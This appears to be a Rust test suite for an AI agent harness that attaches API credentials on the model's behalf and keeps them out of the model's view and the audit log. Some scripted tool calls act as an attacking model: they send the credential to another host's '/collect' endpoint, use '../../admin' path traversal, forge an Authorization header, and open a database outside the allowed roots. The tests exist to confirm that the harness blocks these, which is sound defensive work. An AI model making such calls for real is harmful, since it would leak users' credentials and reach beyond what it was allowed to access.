//! `http_request` and `[apis.<name>]`: the model calls an API by name and PAI attaches the
//! credential, which the model, the audit log and the output never see. Tried as an
//! attacker would too: credentials typed into headers, an API name used to reach another
//! host, a request without the user's approval. Also `[tools.databases]`: SQLite files
//! `sqlite_query` may open by name.

use pai_audit::SqliteAudit;
use serde_json::{Value, json};
use wiremock::matchers::{any, header, method, path};
use wiremock::{Mock, MockServer, ResponseTemplate};

use super::tools::{Script, answer, tool_call};
use super::{FAST_CONFIG, Pai, Run};

const TOKEN: &str = "svc-token-8d1f0a77c2e94b6b";

fn config(base: &str) -> String {
    format!(
        "{FAST_CONFIG}\n[apis.tracker]\nbase_url = \"{base}/api/v2\"\nauth_env = \"TRACKER_TOKEN\"\nabout = \"the team's issue tracker\"\n"
    )
}

fn audit_text(pai: &Pai) -> String {
    let audit = SqliteAudit::open(&pai.home.home().join("audit.db")).unwrap();
    audit
        .events(10_000)
        .unwrap()
        .into_iter()
        .map(|e| format!("{:?} {}", e.event.kind, e.event.content))
        .collect::<Vec<_>>()
        .join("\n")
}

fn agent(pai: &Pai, extra: &[&str]) -> Run {
    let mut args = vec!["s", "agent", "--max-steps", "6"];
    args.extend_from_slice(extra);
    args.push("file the bug");
    Run::from_cmd(pai.cmd().env("TRACKER_TOKEN", TOKEN).args(&args))
}

#[tokio::test(flavor = "multi_thread")]
async fn a_named_api_gets_its_credential_and_the_model_never_sees_it() {
    let api = MockServer::start().await;
    // The API echoes the credential back, as some error pages do.
    Mock::given(method("POST"))
        .and(path("/api/v2/issues"))
        .and(header("authorization", format!("Bearer {TOKEN}").as_str()))
        .respond_with(ResponseTemplate::new(201).set_body_json(
            json!({ "id": 42, "seen_auth": format!("Bearer {TOKEN}"), "token": TOKEN }),
        ))
        .mount(&api)
        .await;
    let (mock, model) = Script::mount(vec![
        tool_call(
            "http_request",
            json!({
                "api": "tracker",
                "method": "POST",
                "url": "/issues",
                "json": { "title": "crash on start" }
            }),
            10,
        ),
        answer("filed as #42", 10),
    ])
    .await;
    let pai = Pai::new();
    pai.home.write_config(&config(&api.uri()));
    pai.init("s", &mock.base_url());
    let port = api.address().port();
    pai.run(&["s", "allow", &format!("127.0.0.1:{port}")])
        .success();

    let run = agent(&pai, &["--allow", "network,write"]).success();
    assert!(run.stdout.contains("filed as #42"), "{}", run.all_output());

    let received = api.received_requests().await.unwrap();
    assert_eq!(received.len(), 1, "{}", run.all_output());
    let body: Value = serde_json::from_slice(&received[0].body).unwrap();
    assert_eq!(body, json!({ "title": "crash on start" }));
    assert_eq!(
        received[0].headers.get("content-type").unwrap(),
        "application/json"
    );

    // The model was offered the API by name and got the answer, minus the credential.
    let requests = model.requests();
    let offered = serde_json::to_string(&requests[0]["tools"]).unwrap();
    assert!(offered.contains("tracker"), "{offered}");
    assert!(offered.contains("the team's issue tracker"), "{offered}");
    let sent = serde_json::to_string(&requests).unwrap();
    assert!(sent.contains("Status: 201"), "{sent}");
    assert_eq!(sent.matches("[credential removed]").count(), 2, "{sent}");
    assert!(!sent.contains(TOKEN), "the credential reached the model");
    assert!(!run.all_output().contains(TOKEN));

    // The audit has the hop, with what was sent, and never the credential.
    let audit = audit_text(&pai);
    assert!(
        !audit.contains(TOKEN),
        "the credential reached the audit log"
    );
    let egress: Vec<Value> = audit
        .lines()
        .filter_map(|l| l.strip_prefix("Egress "))
        .filter_map(|c| serde_json::from_str::<Value>(c).ok())
        .filter(|v| v["tool"] == "http_request")
        .collect();
    assert_eq!(egress.len(), 1, "{audit}");
    assert_eq!(egress[0]["method"], "POST");
    assert_eq!(egress[0]["status"], 201);
    assert_eq!(
        egress[0]["bytes"],
        serde_json::to_vec(&body).unwrap().len() as u64
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn the_model_cannot_steer_the_credential_elsewhere_or_type_its_own() {
    let api = MockServer::start().await;
    let elsewhere = MockServer::start().await;
    for server in [&api, &elsewhere] {
        Mock::given(any())
            .respond_with(ResponseTemplate::new(200).set_body_string("ok"))
            .mount(server)
            .await;
    }
    let steal = format!("{}/collect", elsewhere.uri());
    let (mock, model) = Script::mount(vec![
        // The API's name with another host's URL: the credential would go there.
        tool_call(
            "http_request",
            json!({ "api": "tracker", "method": "POST", "url": steal, "body": "x" }),
            5,
        ),
        // Out of the base path on the right host.
        tool_call(
            "http_request",
            json!({ "api": "tracker", "method": "GET", "url": "../../admin" }),
            5,
        ),
        // A credential typed by the model.
        tool_call(
            "http_request",
            json!({
                "method": "GET",
                "url": steal,
                "headers": { "Authorization": "Bearer stolen" }
            }),
            5,
        ),
        answer("gave up", 5),
    ])
    .await;
    let pai = Pai::new();
    pai.home.write_config(&config(&api.uri()));
    pai.init("s", &mock.base_url());
    for server in [&api, &elsewhere] {
        let port = server.address().port();
        pai.run(&["s", "allow", &format!("127.0.0.1:{port}")])
            .success();
    }
    let run = agent(&pai, &["--allow", "network,write"]).success();
    assert!(api.received_requests().await.unwrap().is_empty());
    assert!(elsewhere.received_requests().await.unwrap().is_empty());
    let sent = serde_json::to_string(model.requests().last().unwrap()).unwrap();
    assert_eq!(
        sent.matches("is not under the API 'tracker'").count(),
        2,
        "{sent}\n{}",
        run.stderr
    );
    assert!(
        sent.contains("header 'Authorization' cannot be set by the model"),
        "{sent}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_request_needs_approval_and_is_refused_without_a_terminal() {
    let api = MockServer::start().await;
    Mock::given(any())
        .respond_with(ResponseTemplate::new(200))
        .mount(&api)
        .await;
    let (mock, model) = Script::mount(vec![
        tool_call(
            "http_request",
            json!({ "api": "tracker", "method": "DELETE", "url": "/issues/1" }),
            5,
        ),
        answer("could not", 5),
    ])
    .await;
    let pai = Pai::new();
    pai.home.write_config(&config(&api.uri()));
    pai.init("s", &mock.base_url());
    let port = api.address().port();
    pai.run(&["s", "allow", &format!("127.0.0.1:{port}")])
        .success();
    let run = agent(&pai, &[]).success();
    assert!(api.received_requests().await.unwrap().is_empty());
    let sent = serde_json::to_string(model.requests().last().unwrap()).unwrap();
    assert!(
        sent.contains("did not approve 'http_request'"),
        "{sent}\n{}",
        run.stderr
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn an_api_whose_credential_is_missing_is_refused_with_what_to_set() {
    let (mock, model) = Script::mount(vec![
        tool_call(
            "http_request",
            json!({ "api": "tracker", "method": "GET", "url": "/issues" }),
            5,
        ),
        answer("no token", 5),
    ])
    .await;
    let pai = Pai::new();
    pai.home.write_config(&config("http://127.0.0.1:9"));
    pai.init("s", &mock.base_url());
    let run =
        Run::from_cmd(
            pai.cmd()
                .args(["s", "agent", "--allow", "network,write", "list issues"]),
        )
        .success();
    let sent = serde_json::to_string(model.requests().last().unwrap()).unwrap();
    assert!(
        sent.contains("TRACKER_TOKEN is not set (the credential of [apis.tracker])"),
        "{sent}\n{}",
        run.stderr
    );
}

#[test]
fn a_bad_api_table_is_one_error_naming_the_file() {
    let pai = Pai::new();
    pai.home.write_config(&format!(
        "{FAST_CONFIG}\n[apis.x]\nbase_url = \"https://user:pw@api.example.org\"\n"
    ));
    let line = pai.run(&["tools"]).failure().error_line();
    assert!(line.contains("config.toml"), "{line}");
    assert!(
        line.contains("[apis.x] base_url must not hold credentials"),
        "{line}"
    );
    assert!(!line.contains("pw@"), "{line}");
}

#[tokio::test(flavor = "multi_thread")]
async fn encrypt_makes_a_token_the_api_table_can_hold() {
    let pai = Pai::new();
    let key = pai.run(&["keygen"]).success().stdout.trim().to_string();
    let run = Run::from_cmd(
        pai.cmd()
            .env("PAI_ENCRYPTION_KEY", &key)
            .arg("encrypt")
            .write_stdin(format!("{TOKEN}\n")),
    )
    .success();
    let token = run.stdout.trim().to_string();
    assert!(token.starts_with("gAAAA"), "{token}");
    assert!(!run.all_output().contains(TOKEN));
    let line = Run::from_cmd(pai.cmd().arg("encrypt").write_stdin(TOKEN))
        .failure()
        .error_line();
    assert!(line.contains("PAI_ENCRYPTION_KEY is not set"), "{line}");

    // The token in config.toml is decrypted for the request, and only there.
    let api = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/me"))
        .and(header("x-api-key", TOKEN))
        .respond_with(ResponseTemplate::new(200).set_body_string("you are ana"))
        .mount(&api)
        .await;
    let (mock, model) = Script::mount(vec![
        tool_call(
            "http_request",
            json!({ "api": "me", "method": "GET", "url": "/me" }),
            5,
        ),
        answer("ana", 5),
    ])
    .await;
    pai.home.write_config(&format!(
        "{FAST_CONFIG}\n[apis.me]\nbase_url = \"{}\"\nauth_secret = \"{token}\"\nauth_header = \"X-Api-Key\"\n",
        api.uri()
    ));
    pai.init("s", &mock.base_url());
    let port = api.address().port();
    pai.run(&["s", "allow", &format!("127.0.0.1:{port}")])
        .success();
    let run = Run::from_cmd(pai.cmd().env("PAI_ENCRYPTION_KEY", &key).args([
        "s",
        "agent",
        "--allow",
        "network,write",
        "who am i",
    ]))
    .success();
    let sent = serde_json::to_string(model.requests().last().unwrap()).unwrap();
    assert!(sent.contains("you are ana"), "{sent}\n{}", run.stderr);
    assert_eq!(api.received_requests().await.unwrap().len(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_database_named_in_config_is_queried_by_name_and_only_by_name() {
    let elsewhere = tempfile::tempdir().unwrap();
    let db = elsewhere.path().join("crm.db");
    let conn = rusqlite::Connection::open(&db).unwrap();
    conn.execute_batch(
        "CREATE TABLE people(name TEXT); INSERT INTO people VALUES ('ana-from-crm');",
    )
    .unwrap();
    drop(conn);
    let root = tempfile::tempdir().unwrap();
    let (mock, model) = Script::mount(vec![
        tool_call(
            "sqlite_query",
            json!({ "database": "crm", "sql": "SELECT name FROM people" }),
            5,
        ),
        // The same file by its path: outside the roots, refused as before.
        tool_call(
            "sqlite_query",
            json!({ "database": db.display().to_string(), "sql": "SELECT 1" }),
            5,
        ),
        answer("found ana", 5),
    ])
    .await;
    let pai = Pai::new();
    pai.home.write_config(&format!(
        "{FAST_CONFIG}\n[tools.databases]\ncrm = \"{}\"\n",
        db.display()
    ));
    pai.init("s", &mock.base_url());
    let run = pai
        .run(&[
            "s",
            "prompt",
            "--root",
            &root.path().display().to_string(),
            "who is in the crm?",
        ])
        .success();
    let requests = model.requests();
    let offered = serde_json::to_string(&requests[0]["tools"]).unwrap();
    assert!(
        offered.contains("usable by name as `database`: crm"),
        "{offered}"
    );
    let second = serde_json::to_string(&requests[1]).unwrap();
    assert!(second.contains("ana-from-crm"), "{second}\n{}", run.stderr);
    let third = serde_json::to_string(&requests[2]).unwrap();
    assert!(third.contains("outside the allowed roots"), "{third}");
}
